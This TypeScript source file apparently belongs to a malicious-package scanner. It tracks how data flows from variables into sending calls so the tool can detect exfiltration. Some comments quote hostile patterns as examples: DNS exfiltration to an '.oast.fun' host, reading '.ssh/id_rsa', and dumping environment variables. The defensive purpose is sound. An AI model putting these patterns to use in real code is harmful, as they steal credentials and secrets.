/**
 * Data-flow facts for the behaviour model (src/analysis/behaviour): which identifiers a call's
 * arguments use, which variable receives its value, which callback parameters receive what it
 * produces, which variables are built from which (`dataflow`), and the methods called on values the
 * resolver does not know (`req.write(data)`). By name and scope-less, like the bindings.
 */
import { propertyKey, qualifiedName } from './static-values.js';
import type { FileState } from './state.js';
import { FUNCTION_TYPES, type AstNode, type FlowFacts, type JsAssignment, ASSIGNMENTS_KEPT } from './types.js';

/** Methods on unknown receivers that carry data in or out (sending, streaming, promise callbacks, collecting). */
// The iteration methods hand each element of the receiver to the callback's parameters, as for…of does
// (`toHex(data).match(/.{1,60}/g).forEach((c) => dns.lookup(c + '.x.oast.fun'))` splits data into labels).
const ITERATION_METHODS = /^(forEach|map|flatMap|filter|reduce|some|every|find)$/;
const FLOW_METHODS = new RegExp(`^(write|end|send|post|put|patch|emit|then|on|once|pipe|json|text|arrayBuffer|buffer|connect|open|push|unshift|append|set|add|concat|assign|sendBeacon|setRequestHeader|request|get|readText|writeText|submit|upload|sendDocument|sendMessage|sendMail|publish|resolve(?:4|6|Txt|Any|Cname|Mx|Ns|Srv|Ptr|Soa|Naptr|Caa))$|${ITERATION_METHODS.source}`);
const COLLECTING_METHODS = /^(push|unshift|append|set|add|assign|write|concat)$/;

/**
 * Scratch space of `namesIn`, kept for the whole run. Indexed by hand, never emptied by setting
 * `length = 0`: V8 frees an array's storage then, and the next push allocated it again, which made
 * these two arrays the walk's largest allocation after the parse itself.
 */
const NAMES: string[] = [];
/** Per name of `NAMES`: every use so far was `name.SOME_KEY`, one named variable read out of it, or an `env:` option. */
const KEYED: boolean[] = [];
const STACK: (AstNode | undefined)[] = [];
/** A property named like an environment variable: `env.HTTPS_PROXY` reads one variable, not the environment. */
const ENV_KEY = /^[A-Z][A-Z0-9_]*$/;

/**
 * `this.data` (and `exports.x`) is a name of its own: a class keeps what one method collects in a field another
 * method sends (`collect() { this.data[f] = read(f) }`, `send() { post(JSON.stringify(this.data)) }`).
 * Scope-less like every name, so the distance rules of the behaviour model still apply.
 */
function fieldName(n: AstNode): string | undefined {
  if (n.type !== 'MemberExpression' || n.computed || n.property.type !== 'Identifier') return undefined;
  const owner = fieldOwner(n.object);
  return owner !== undefined ? `${owner}.${n.property.name as string}` : undefined;
}

/**
 * Objects whose fields are names of their own: `this`, and a module's `exports` (`exports.x`,
 * `module.exports.x`), which compiled TypeScript writes every export into: as one name, `exports`
 * joined every value the module exports (nodemailer's interface table and its DNS lookups).
 */
function fieldOwner(object: AstNode): string | undefined {
  if (object.type === 'ThisExpression') return 'this';
  if (object.type === 'Identifier' && object.name === 'exports') return 'exports';
  if (object.type === 'MemberExpression' && !object.computed && object.object.type === 'Identifier' && object.object.name === 'module' && object.property.name === 'exports') return 'exports';
  return undefined;
}

/** The field an assignment target writes into (`this.data[f] = …` writes this.data, `exports.x = …` exports.x). */
function fieldOf(target: AstNode): string | undefined {
  let m: AstNode = target;
  while (m.type === 'MemberExpression' && fieldOwner(m.object) === undefined) m = m.object;
  return fieldName(m);
}

/**
 * The name a node uses without passing its whole value on: `env.HTTPS_PROXY` reads one variable, and
 * `{ env: childEnv }` hands a process's environment over as an option (opennext's
 * `runRcloneCopy(…, { env: rcloneEnv })`); both count as keyed for the whole-environment flow.
 */
function keyedUse(n: AstNode): string | undefined {
  if (n.type === 'MemberExpression' && !n.computed && n.object.type === 'Identifier' && ENV_KEY.test(n.property.name as string)) return n.object.name as string;
  if (n.type === 'Property' && !n.computed && (n.key.name ?? n.key.value) === 'env' && n.value.type === 'Identifier') return n.value.name as string;
  return undefined;
}

export const isNode = (value: unknown): value is AstNode => value !== null && typeof value === 'object' && typeof (value as AstNode).type === 'string';

/**
 * Identifiers an expression uses, without descending into functions (their code runs elsewhere):
 * first occurrences in walk order, at most `max`. They are left in `NAMES[0..count)`, valid until
 * the next call, and the count is returned: it runs for every call, declaration and assignment of
 * every parsed file, and both callers read the names at once.
 */
/**
 * A signature, digest or MAC of a value does not carry the value (nor the key that made it): a
 * service-account key signing a JWT for Google's token endpoint, a machine id hashed for telemetry.
 */
const ONE_WAY = /^(?:sign|signAsync|signSync|digest|hash|hmac|createHmac|verify)$/;

/** A node whose names do not flow into the expression around it: a function's body, a one-way call. */
function opaque(n: AstNode): boolean {
  if (FUNCTION_TYPES.has(n.type)) return true;
  if (n.type !== 'CallExpression') return false;
  const callee = n.callee;
  const word = callee.type === 'Identifier' ? callee.name : callee.type === 'MemberExpression' && !callee.computed ? callee.property.name : undefined;
  return typeof word === 'string' && ONE_WAY.test(word);
}

function namesIn(node: AstNode | undefined, max = 24): number {
  let count = 0;
  let top = 0;
  if (node) STACK[top++] = node;
  let high = top;
  for (let budget = 400; top > 0 && budget > 0 && count < max; budget--) {
    const n = STACK[--top]!;
    if (n.type === 'Identifier') {
      count = noteName(n.name as string, false, count);
      continue;
    }
    const field = fieldName(n);
    if (field !== undefined) {
      count = noteName(field, false, count);
      continue;
    }
    const keyed = keyedUse(n);
    if (keyed !== undefined) {
      count = noteName(keyed, true, count);
      continue;
    }
    if (opaque(n)) continue;
    // `a = b = c`: what b is assigned carries c's value, not b's (tsc opens every module with
    // `exports.x = exports.y = … = void 0`, which joined all its exports into one another).
    if (n.type === 'AssignmentExpression' && n.operator === '=') {
      STACK[top++] = n.right;
      if (top > high) high = top;
      continue;
    }
    // for…in over the node's own fields (acorn nodes inherit none), in the order Object.entries gave,
    // without building an array of entries per node.
    for (const key in n) {
      if ((key === 'property' && n.type === 'MemberExpression' && !n.computed) || (key === 'key' && n.type === 'Property' && !n.computed)) continue;
      const value: unknown = n[key];
      if (Array.isArray(value)) {
        for (let i = 0; i < value.length; i++) if (isNode(value[i])) STACK[top++] = value[i] as AstNode;
      } else if (isNode(value)) STACK[top++] = value;
    }
    if (top > high) high = top;
  }
  // Holds no file's nodes past the call.
  STACK.fill(undefined, 0, high);
  return count;
}

/** Whether `NAMES[0..count)` holds the name. */
/** Records a use of `name` (as `name.KEY` when `keyed`) among the first `count` names; returns the new count. */
function noteName(name: string, keyed: boolean, count: number): number {
  const at = indexBefore(name, count);
  if (at >= 0) {
    if (!keyed) KEYED[at] = false;
    return count;
  }
  NAMES[count] = name;
  KEYED[count] = keyed;
  return count + 1;
}

function indexBefore(name: string, count: number): number {
  for (let i = 0; i < count; i++) if (NAMES[i] === name) return i;
  return -1;
}

export function recordDataflow(s: FileState, target: AstNode, value: AstNode, declares = false): void {
  let root: AstNode | undefined = target;
  while (root && root.type === 'MemberExpression') root = root.object;
  const field = target.type === 'MemberExpression' ? fieldOf(target) : undefined;
  const names = field !== undefined ? [field] : root?.type === 'Identifier' ? [root.name as string] : target.type === 'ObjectPattern' || target.type === 'ArrayPattern' ? paramNames([target]) : [];
  if (names.length === 0) return;
  const used = namesIn(value);
  // Also a declaration from a constant (`const url = 'https://…'`): the name is the function's own there.
  for (const name of names) noteAssignment(s, name, { at: target.start as number, from: NAMES.slice(0, used) as string[], ...(declares ? { declares: true as const } : {}) });
  if (used === 0 || s.dataflow.size >= 5000) return;
  for (const name of names) {
    const set = s.dataflow.get(name) ?? new Set<string>();
    for (let i = 0; i < used; i++) {
      if (NAMES[i] === name || set.size >= 64) continue;
      set.add(NAMES[i]!);
      if (KEYED[i]) keyedEdge(s, name, NAMES[i]!);
    }
    s.dataflow.set(name, set);
  }
}

function noteAssignment(s: FileState, name: string, assignment: JsAssignment): void {
  const list = s.assignments.get(name);
  if (list) {
    if (list.length < ASSIGNMENTS_KEPT) list.push(assignment);
  } else if (s.assignments.size < 5000) s.assignments.set(name, [assignment]);
}

/** `x = env.HTTPS_PROXY`: x holds one variable of env, which following the whole of env must not take for env. */
function keyedEdge(s: FileState, target: string, from: string): void {
  const set = s.keyedDataflow.get(target) ?? new Set<string>();
  set.add(from);
  s.keyedDataflow.set(target, set);
}

export function flowFacts(node: AstNode, ancestors: AstNode[], scope: string | undefined): FlowFacts {
  const args = (node.arguments as AstNode[] | undefined) ?? [];
  const keyed: string[] = [];
  const flow: FlowFacts = { span: [node.start, node.end], argNames: argumentNames(args, keyed) };
  if (keyed.length > 0) flow.keyedNames = keyed;
  // Optional fields set one by one, in this order: spreading `{ holder }` or `{}` copied two
  // objects more for every call of every parsed file.
  const holder = holderOf(ancestors);
  if (holder !== undefined) flow.holder = holder;
  else {
    const destructured = destructuredBy(ancestors);
    if (destructured !== undefined) flow.destructured = destructured;
  }
  const callbackParams = callbackParamsOf(args);
  if (callbackParams.length > 0) flow.callbackParams = callbackParams;
  if (scope !== undefined) flow.scope = scope;
  if (insideDeferredFunction(ancestors)) flow.deferred = true;
  // Plain calls, and calls of another module's export (`q.send(a)`, tsc's `(0, q.send)(a)`): cross-file.ts matches positions.
  if (node.type === 'CallExpression' && args.length > 0 && /^(?:Identifier|MemberExpression|SequenceExpression)$/.test(node.callee.type as string)) {
    const positional = positionalArguments(args);
    if (positional !== undefined) flow.positional = positional;
  }
  return flow;
}

/**
 * The call sits in a function that runs only when something calls it later: assigned, exported,
 * returned, a method or a declaration. A callback handed to a call (`.then(cb)`, `on('end', cb)`,
 * `setTimeout(cb)`) or an IIFE runs when that call runs, so it does not defer.
 */
function insideDeferredFunction(ancestors: AstNode[]): boolean {
  for (let i = ancestors.length - 2; i >= 0; i--) {
    const node = ancestors[i]!;
    if (node.type !== 'FunctionExpression' && node.type !== 'ArrowFunctionExpression' && node.type !== 'FunctionDeclaration') continue;
    const parent = ancestors[i - 1];
    const handed = parent !== undefined && (parent.type === 'CallExpression' || parent.type === 'NewExpression') && (parent.callee === node || (parent.arguments as AstNode[]).includes(node));
    if (!handed) return true;
  }
  return false;
}

/** The name or literal at each argument position, when every argument is one (see FlowFacts.positional). */
function positionalArguments(args: AstNode[]): (string | null)[] | undefined {
  const out: (string | null)[] = [];
  for (const arg of args) {
    if (arg.type === 'Identifier') out.push(arg.name as string);
    else if (arg.type === 'Literal') out.push(null);
    else return undefined;
  }
  return out;
}

function callbackParamsOf(args: AstNode[]): string[] {
  const params: string[] = [];
  for (const arg of args) if (FUNCTION_TYPES.has(arg.type)) params.push(...paramNames(arg.params as AstNode[]));
  return params;
}

/** The names an expression uses (the URL written into an image's `src`), as for a call's arguments. */
export function valueNames(node: AstNode): string[] {
  return argumentNames([node], []);
}

/** The first 32 distinct names the arguments use, in argument order; `keyed` gets those only used as `name.KEY`. */
function argumentNames(args: AstNode[], keyed: string[]): string[] {
  const names: string[] = [];
  const direct = new Set<string>();
  for (const arg of args) {
    const count = namesIn(arg);
    for (let i = 0; i < count; i++) {
      if (!KEYED[i]) direct.add(NAMES[i]!);
      if (names.length < 32 && !names.includes(NAMES[i]!)) names.push(NAMES[i]!);
    }
  }
  for (const name of names) if (!direct.has(name)) keyed.push(name);
  return names;
}


export function visitMethodCall(s: FileState, node: AstNode, ancestors: AstNode[], scope: string | undefined): void {
  const callee = node.callee.type === 'ChainExpression' ? node.callee.expression : node.callee;
  if (callee.type !== 'MemberExpression') return;
  // `req['end'](data)` and an obfuscator's `req[_0x5583(0x135)](data)` name the method as a constant too.
  const method = callee.computed ? propertyKey(s.values.resolve(callee.property)) : callee.property.type === 'Identifier' ? (callee.property.name as string) : undefined;
  if (method === undefined || !FLOW_METHODS.test(method) || s.methodCalls.length >= 3000) return;
  let receiver: AstNode = callee.object;
  while (receiver.type === 'MemberExpression') receiver = receiver.object;
  const flow = flowFacts(node, ancestors, scope);
  // `fetch(u).then(r => r.text()).then(src => …)`: the innermost call the chain starts from.
  let origin: AstNode = receiver;
  let objectCallee: string | undefined;
  for (let hops = 0; origin.type === 'CallExpression' && hops < 8; hops++) {
    objectCallee = qualifiedName(s.values.resolve(origin.callee));
    if (objectCallee !== undefined || origin.callee.type !== 'MemberExpression') break;
    origin = origin.callee.object;
    while (origin.type === 'MemberExpression') origin = origin.object;
  }
  const object = receiver.type === 'Identifier' ? (receiver.name as string) : undefined;
  // `toHex(data).match(re).forEach((label) => …)`: the names the receiver is computed from reach the callback.
  const receiverNames = object === undefined && ITERATION_METHODS.test(method) ? argumentNames([receiver], []) : [];
  s.methodCalls.push({
    method,
    ...(object !== undefined ? { object } : {}),
    ...(receiverNames.length > 0 ? { receiverNames } : {}),
    ...(objectCallee !== undefined ? { objectCallee } : {}),
    line: s.lineOf(node),
    excerpt: s.excerpt(node),
    flow,
  });
  if (object !== undefined && COLLECTING_METHODS.test(method)) for (const arg of node.arguments as AstNode[]) recordDataflow(s, receiver, arg);
}

/** Names a parameter list (or a destructuring pattern) binds. */
export function paramNames(params: AstNode[]): string[] {
  const names: string[] = [];
  const visit = (p: AstNode | null | undefined): void => {
    if (!p || names.length >= 16) return;
    if (p.type === 'Identifier') names.push(p.name);
    else if (p.type === 'AssignmentPattern') visit(p.left);
    else if (p.type === 'RestElement') visit(p.argument);
    else if (p.type === 'ArrayPattern') (p.elements as (AstNode | null)[]).forEach(visit);
    else if (p.type === 'ObjectPattern') for (const prop of p.properties as AstNode[]) visit(prop.type === 'RestElement' ? prop : prop.value);
  };
  params.forEach(visit);
  return names;
}

/**
 * The names a destructuring pattern takes an expression's value apart into:
 * `const { data } = await axios.get(u)`, `[a, b] = f()`. Only a pattern that receives the value
 * itself (through `await` or parentheses), not one that receives a value the expression is part of.
 */
function destructuredBy(ancestors: AstNode[]): string[] | undefined {
  let child = ancestors[ancestors.length - 1]!;
  for (let i = ancestors.length - 2; i >= 0; i--) {
    const a = ancestors[i]!;
    if (a.type === 'AwaitExpression' || a.type === 'ParenthesizedExpression') {
      child = a;
      continue;
    }
    const pattern = a.type === 'VariableDeclarator' && a.init === child ? a.id : a.type === 'AssignmentExpression' && a.right === child ? a.left : undefined;
    if (pattern === undefined || (pattern.type !== 'ObjectPattern' && pattern.type !== 'ArrayPattern')) return undefined;
    const names = paramNames([pattern]);
    return names.length > 0 ? names : undefined;
  }
  return undefined;
}

/** The variable that receives an expression's value, up to the enclosing statement. */
export function holderOf(ancestors: AstNode[]): string | undefined {
  for (let i = ancestors.length - 2; i >= 0; i--) {
    const a = ancestors[i]!;
    if (a.type === 'VariableDeclarator') return a.id.type === 'Identifier' ? (a.id.name as string) : undefined;
    if (a.type === 'AssignmentExpression') {
      let left: AstNode = a.left;
      while (left.type === 'MemberExpression') left = left.object;
      return fieldOf(a.left) ?? (left.type === 'Identifier' ? (left.name as string) : undefined);
    }
    // `for (const f of ['.ssh/id_rsa', …])`: what the loop walks, each item in turn, is held by its variable.
    if (a.type === 'ForOfStatement' && ancestors[i + 1] === a.right) return loopVariable(a.left);
    // `names.map((k) => `${k}=${process.env[k]}`)`: what the callback returns is the list the call builds.
    const mapped = mappedBy(ancestors, i);
    if (mapped !== undefined) {
      i = mapped;
      continue;
    }
    if (FUNCTION_TYPES.has(a.type) || /Statement$|Declaration$/.test(a.type)) return undefined;
  }
  return undefined;
}

/** Array methods whose result is made of what their callback returns. */
const MAPPING_METHODS = /^(?:map|flatMap)$/;

/**
 * When ancestors[i] returns a value out of a callback handed to `.map`/`.flatMap` (an arrow's
 * expression body, or a `return` of the callback's block), the index of that call: the value goes
 * on into the list it builds.
 */
function mappedBy(ancestors: AstNode[], i: number): number | undefined {
  let fn = i;
  const a = ancestors[i]!;
  if (a.type === 'ReturnStatement') {
    fn = i - 1;
    while (fn > 0 && !FUNCTION_TYPES.has(ancestors[fn]!.type) && /^(?:BlockStatement|IfStatement|TryStatement|SwitchCase|SwitchStatement)$/.test(ancestors[fn]!.type)) fn--;
  } else if (!(a.type === 'ArrowFunctionExpression' && a.expression === true && ancestors[i + 1] === a.body)) return undefined;
  const callback = ancestors[fn];
  const call = ancestors[fn - 1];
  if (!callback || !FUNCTION_TYPES.has(callback.type) || call?.type !== 'CallExpression' || (call.arguments as AstNode[])[0] !== callback) return undefined;
  if (call.callee.type !== 'MemberExpression' || !MAPPING_METHODS.test((call.callee.property.name as string | undefined) ?? '')) return undefined;
  return fn - 1;
}

function loopVariable(left: AstNode): string | undefined {
  const id = left.type === 'VariableDeclaration' ? left.declarations[0]?.id : left;
  return id?.type === 'Identifier' ? (id.name as string) : undefined;
}
